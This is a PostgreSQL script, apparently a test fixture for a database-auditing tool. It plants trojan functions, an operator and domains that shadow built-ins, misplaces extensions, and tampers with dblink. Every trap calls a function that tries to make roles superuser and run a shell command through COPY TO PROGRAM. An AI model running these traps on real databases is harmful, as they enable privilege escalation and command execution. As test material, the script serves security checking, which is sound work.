CREATE FUNCTION public.spring() RETURNS boolean LANGUAGE plpgsql AS $trap$
BEGIN
  BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE postgres SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'CREATE ROLE sprung SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch @written@'''; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $trap$;

CREATE SCHEMA trapped;
CREATE FUNCTION trapped.now() RETURNS timestamptz LANGUAGE plpgsql AS $$ BEGIN PERFORM public.spring(); RETURN NULL; END $$;
CREATE FUNCTION trapped.concat(text, text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.spring(); RETURN $1; END $$;
CREATE FUNCTION trapped.quote_literal(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.spring(); RETURN $1; END $$;
CREATE FUNCTION trapped.to_regrole(text) RETURNS regrole LANGUAGE plpgsql AS $$ BEGIN PERFORM public.spring(); RETURN NULL; END $$;
CREATE FUNCTION trapped.same(text, text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RETURN public.spring(); END $$;
CREATE FUNCTION trapped.joined(varchar, varchar) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.spring(); RETURN ''; END $$;
CREATE OPERATOR trapped.|| (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = trapped.joined);
CREATE DOMAIN trapped.text AS pg_catalog.text CHECK (public.spring());
CREATE DOMAIN trapped.uuid AS pg_catalog.uuid CHECK (public.spring());
DO $$
DECLARE
  extension text;
BEGIN
  FOR extension IN SELECT DISTINCT v.name FROM pg_catalog.pg_available_extension_versions v
                    WHERE v.trusted AND NOT v.installed AND (v.schema IS NULL) LOOP
    BEGIN
      EXECUTE pg_catalog.format('CREATE EXTENSION %I SCHEMA trapped CASCADE', extension);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $$;
CREATE EXTENSION IF NOT EXISTS citext SCHEMA pg_catalog;
CREATE EXTENSION IF NOT EXISTS hstore SCHEMA pgassay;
CREATE EXTENSION IF NOT EXISTS ltree SCHEMA pg_temp;
CREATE FUNCTION public.lower(name) RETURNS pg_catalog.text LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.spring(); RETURN 'x'; END $$;
ALTER EXTENSION dblink ADD FUNCTION public.lower(name);
ALTER EXTENSION dblink SET SCHEMA pg_catalog;
ALTER EXTENSION dblink SET SCHEMA pgassay;
